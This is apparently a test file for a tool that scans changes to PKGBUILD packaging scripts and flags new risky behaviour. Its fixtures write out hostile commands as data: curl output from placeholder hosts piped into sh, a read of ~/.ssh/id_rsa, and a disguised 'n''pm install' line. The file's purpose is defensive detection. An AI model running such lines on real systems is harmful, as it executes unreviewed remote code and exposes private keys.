import assert from "node:assert/strict";
import { describe, test } from "node:test";
import { changeOf } from "../attacks/fixture.ts";
import { CLEAN, filesOf, PLACES } from "../attacks/places.ts";
import { readChange } from "../read-change.ts";
import { BEHAVIOUR_RULES } from "./index.ts";

type Side = { readonly place: string; readonly line: string };

function texts(side: Side | null): Readonly<Record<string, string>> {
  if (side === null) return CLEAN;
  const place = PLACES.find(({ name }) => name === side.place);
  assert.ok(place, side.place);
  return place.files(side.line);
}

/** "alarm foreign-package", …: what all rules say of a line that replaces another. */
function found(before: Side | null, after: Side | null): string[] {
  const reading = readChange(changeOf(filesOf(texts(before)), filesOf(texts(after))));
  return BEHAVIOUR_RULES.flatMap((rule) =>
    rule.find(reading).map(({ severity }) => `${severity} ${rule.id}`),
  );
}

const NPM = { place: "build()", line: "npm install x" };
const PIPE = { place: "build()", line: "curl -s https://a.example.invalid/v1.2/i | sh" };

describe("what is new in a change", () => {
  test("is not what stood there before, in other quotes, lines or places of the same time", () => {
    assert.deepEqual(found(NPM, NPM), []);
    assert.deepEqual(found(NPM, { ...NPM, line: 'npm \\\n  install "x"' }), []);
    assert.deepEqual(found(NPM, { place: "package()", line: "npm install x" }), []);
    assert.deepEqual(found(NPM, { place: "own function", line: "npm install x" }), []);
  });

  test("is not another version of the same address", () => {
    assert.deepEqual(found(PIPE, { ...PIPE, line: "curl -s https://a.example.invalid/v1.3/i | sh" }), []);
  });

  test("is another host, even one that differs by a digit", () => {
    const moved = found(PIPE, { ...PIPE, line: "curl -s https://b.example.invalid/v1.2/i | sh" });
    assert.ok(moved.includes("alarm fetched-code"), moved.join());
    const [one, two] = ["198.51.100.1", "198.51.100.2"].map((ip) => ({
      place: "build()",
      line: `curl -s http://${ip}/i | sh`,
    }));
    assert.ok(found(one ?? null, two ?? null).includes("alarm fetched-code"));
  });

  test("is another package, another option, another file", () => {
    assert.deepEqual(found(NPM, { ...NPM, line: "npm install x y" }), ["alarm foreign-package"]);
    const read = { place: "build()", line: "cat ~/.ssh/config" };
    assert.deepEqual(found(read, { ...read, line: "cat ~/.ssh/id_rsa" }), ["alarm secret-read"]);
  });

  test("is the same as root on every machine, or whenever the PKGBUILD is read", () => {
    assert.deepEqual(found(NPM, { place: "post_install()", line: "npm install x" }), [
      "alarm foreign-package",
    ]);
    assert.deepEqual(found(NPM, { place: "top level", line: "npm install x" }), ["alarm foreign-package"]);
    assert.deepEqual(found({ place: "post_install()", line: "npm install x" }, NPM), []);
  });

  test("is the same in disguise", () => {
    assert.deepEqual(found(NPM, { ...NPM, line: "n''pm install x" }), ["alarm disguised-words"]);
  });

  test("is everything of a package that is reviewed for the first time", () => {
    const files = filesOf(texts(NPM));
    const reading = readChange(changeOf(null, files));
    const rules = BEHAVIOUR_RULES.filter((rule) => rule.find(reading).length > 0).map(({ id }) => id);
    assert.deepEqual(rules, ["foreign-package"]);
  });

  test("is nothing when something dangerous goes", () => {
    assert.deepEqual(found(PIPE, null), []);
  });
});

describe("a committed program", () => {
  const files = (content: string) => [
    ...filesOf(texts({ place: "build()", line: '"$srcdir/gen"' })),
    { file: { path: "gen", kind: "file" as const, content: Buffer.from(content, "latin1") } },
  ];

  test("is another one when its bytes change", () => {
    const [one, two] = ["\x7fELF\0one", "\x7fELF\0two"].map(files);
    const rules = (from: typeof one, to: typeof one) => {
      const reading = readChange(changeOf(from ?? null, to ?? []));
      return BEHAVIOUR_RULES.filter((rule) => rule.find(reading).length > 0).map(({ id }) => id);
    };
    assert.deepEqual(rules(one, one), []);
    assert.deepEqual(rules(one, two), ["committed-program"]);
  });
});
